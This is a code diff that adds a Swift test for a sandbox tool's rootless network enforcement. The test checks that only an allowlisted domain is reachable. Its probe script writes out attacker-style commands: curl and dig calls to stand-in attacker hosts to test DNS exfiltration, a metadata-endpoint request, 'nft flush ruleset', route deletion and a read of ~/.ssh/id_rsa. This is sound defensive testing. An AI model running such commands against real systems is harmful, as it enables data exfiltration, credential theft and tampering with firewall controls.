@@ -126,4 +126,68 @@ struct RootlessEnforceTests {
         checkProbes(outcome, world: world, label: "--rootless")
         #expect(outcome.error.contains("rootless mode"), "the start says rootless: \(outcome.error)")
     }
+
+    /// The network in rootless mode, in the netlab: the allowlist and the gate inside the sandbox's namespace,
+    /// slirp4netns as the uplink, started by the plain user in the lab's simulated host.
+    @Test("a plain user in the netlab: an allowed name works; DNS exfiltration and literal IPs reach nothing; nft cannot be flushed",
+          .enabled(if: Requirements.mayRun(root: true, tools: ["setpriv", "useradd", "slirp4netns", "dig", "curl", "dnsmasq", "tcpdump"]),
+                   "root: creates the test user and the netlab"))
+    func plainUserNetwork() throws {
+        try Requirements.root()
+        let lab = try Netlab(); defer { lab.shutdown() }
+        let world = try World(); defer { world.remove() }
+        let profile = world.root + "/rootless-net.yaml"
+        try "cagent: 1\nagent: rootless-net\nextends: [base]\nnetwork:\n  domains: [www.allowed.test]\n"
+            .write(toFile: profile, atomically: false, encoding: .utf8)
+        chmod(profile, 0o644)
+        let script = """
+        grep nameserver /etc/resolv.conf
+        curl -sS -m 5 -o /dev/null -w 'www %{http_code}\\n' http://www.allowed.test/
+        curl -sS -m 5 -o /dev/null -w 'attacker %{http_code}\\n' http://203.0.113.66/ 2>/dev/null || echo attacker-failed
+        curl -sS -m 5 -o /dev/null http://203.0.113.66:443/ 2>/dev/null || echo attacker443-failed
+        dig +time=2 +tries=1 +short x1.attacker.test | sed 's/^/answer /'
+        dig +time=2 +tries=1 +short TXT x2.attacker.test | sed 's/^/answer /'
+        dig @198.51.100.8 +time=2 +tries=1 +short x3.attacker.test | sed 's/^/answer /'
+        dig @198.51.100.53 +time=2 +tries=1 +short x4.attacker.test | sed 's/^/answer /'
+        dig +tcp @198.51.100.53 +time=2 +tries=1 +short x5.attacker.test | sed 's/^/answer /'
+        python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"udp-probe", ("203.0.113.66", 9999))' 2>/dev/null
+        ping -c 1 -W 2 203.0.113.66 >/dev/null 2>&1 || echo ping-failed
+        curl -sS -m 3 -o /dev/null http://169.254.169.254/ 2>/dev/null || echo metadata-failed
+        curl -sS -m 3 -o /dev/null http://10.0.2.2:22/ 2>/dev/null || echo hostloop-failed
+        /usr/sbin/nft flush ruleset 2>/dev/null && echo tamper-nft-ok
+        /usr/sbin/ip route del default 2>/dev/null && echo tamper-route-ok
+        cat "$HOME/.ssh/id_rsa" 2>/dev/null && echo ssh-READ
+        curl -sS -m 5 -o /dev/null -w 'www-again %{http_code}\\n' http://www.allowed.test/
+        """
+        let argv = ["ip", "netns", "exec", lab.hostNamespace, "/usr/bin/setpriv", "--reuid", String(world.user.uid),
+                    "--regid", String(world.user.gid), "--clear-groups", "/usr/bin/env", "-i", "PATH=/usr/bin:/bin",
+                    "HOME=\(world.home)", "USER=\(world.user.name)",
+                    Products.cagent, "enforce", "--profile", profile, "--workspace", world.workspace,
+                    "--upstream-dns", NetlabAddresses.dns4, "--", "/bin/sh", "-c", script]
+        let outcome = try Self.run(argv, world: world)
+        let out = outcome.output, err = outcome.error
+        #expect(outcome.status == 0, "\(err)")
+        #expect(out.contains("nameserver 127.0.0.1"), "the gate is the sandbox's resolver: \(out)")
+        #expect(out.contains("www 200") && out.contains("www-again 200"), "the allowed name works: \(out) \(err)")
+        for marker in ["attacker-failed", "attacker443-failed", "ping-failed", "metadata-failed", "hostloop-failed"] {
+            #expect(out.contains(marker), "\(marker): \(out)")
+        }
+        #expect(!out.contains("answer "), "no attacker name resolved: \(out)")
+        #expect(!out.contains("tamper-") && !out.contains("ssh-READ"), "\(out)")
+        #expect(err.contains("cagent: refused DNS x1.attacker.test"), "the refusal is shown live: \(err)")
+        let attackerSeen = lab.sinkRecords().filter { $0.contains("203.0.113.66") || $0.contains("198.51.100.8") }
+        #expect(attackerSeen.isEmpty, "the sink saw the sandbox: \(attackerSeen)")
+        #expect(lab.dnsQueries(containing: "attacker.test").isEmpty, "the DNS server saw \(lab.dnsQueries(containing: "attacker.test"))")
+        #expect(!lab.dnsQueries(containing: "www.allowed.test").isEmpty, "the gate asked upstream for the allowed name")
+        #expect(processes(mentioning: "slirp4netns").isEmpty, "slirp4netns stopped with the session")
+
+        // Positive controls: the same probes from the simulated host, as the same user, reach the sink and the DNS log.
+        let asUser = ["/usr/bin/setpriv", "--reuid", String(world.user.uid), "--regid", String(world.user.gid), "--clear-groups"]
+        _ = try lab.run(in: .host, asUser + ["curl", "-sS", "-m", "3", "-o", "/dev/null", "http://203.0.113.66/"])
+        _ = try lab.run(in: .host, asUser + ["dig", "+time=2", "+tries=1", "@198.51.100.8", "x3.attacker.test"])
+        _ = try lab.run(in: .host, asUser + ["dig", "+time=2", "+tries=1", "@\(NetlabAddresses.dns4)", "x4.attacker.test"])
+        #expect(lab.sinkRecords().contains { $0.contains("203.0.113.66") }, "control: the sink records a direct connection")
+        #expect(lab.sinkRecords().contains { $0.contains("198.51.100.8") }, "control: the sink records the public resolver query")
+        #expect(!lab.dnsQueries(containing: "x4.attacker.test").isEmpty, "control: the DNS log records the query")
+    }
 }
